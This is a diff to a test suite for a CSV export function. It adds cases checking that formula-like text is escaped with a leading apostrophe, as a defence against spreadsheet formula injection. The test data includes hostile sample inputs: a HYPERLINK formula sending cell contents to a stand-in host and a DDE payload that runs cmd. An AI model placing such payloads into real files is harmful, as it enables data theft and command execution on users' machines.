@@ -72,7 +72,9 @@ describe('CSV export', () => {
     expect(text.split('\n')[1]).toBe('1;Perú;1234,5;123456789012,345;2012-01-31;2012-01-31 13:45:10;true;"a;b, ""c"""');
 
     const back = await readBack(bytes, "delim=';', decimal_separator=','");
-    expect(back).toEqual(await rows(engine, `SELECT ${PROJECTION} FROM ${result.table} ORDER BY id`));
+    // Every value reads back the same, except the formula-like note, which is written as text ('=1+1).
+    const original = await rows(engine, `SELECT ${PROJECTION} FROM ${result.table} ORDER BY id`);
+    expect(back).toEqual(original.map((row) => (row.note === '=1+1' ? { ...row, note: "'=1+1" } : row)));
     expect(back[0]).toMatchObject({ amount: 1234.5, exact: 123456789012.345 });
   });
 
@@ -84,6 +86,22 @@ describe('CSV export', () => {
     const bytes = await tableToCsv(engine, result.table!, tabs);
     expect(bytes[0]).toBe(0x78); // "x": no byte-order mark
     expect(new TextDecoder().decode(bytes)).toBe('x\ts\n1,5\ta,b\n');
+  });
+
+  it.each([
+    ['=HYPERLINK("http://x.example/?"&A1,"ver")', `"'=HYPERLINK(""http://x.example/?""&A1,""ver"")"`],
+    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
+    ['+cmd|\' /C calc\'!A0', "'+cmd|' /C calc'!A0"],
+    ['-2+3', "'-2+3"],
+    ['\t=1+1', "'\t=1+1"],
+    ['-12', '-12'],
+    ['+57 300 1234567', '+57 300 1234567'],
+    ['Bogotá', 'Bogotá'],
+    ['a=b', 'a=b'],
+  ])('writes the text %j so that no spreadsheet runs it as a formula', async (text, written) => {
+    const result = await runStatement(engine, `SELECT ${quoteLiteral(text)} AS "=header", 2.5::DOUBLE AS n`);
+    const csv = new TextDecoder().decode(await exportCsv(engine, result, { delimiter: ';', decimal: ',', bom: false }));
+    expect(csv).toBe(`'=header;n\n${written};2,5\n`);
   });
 
   it.each([
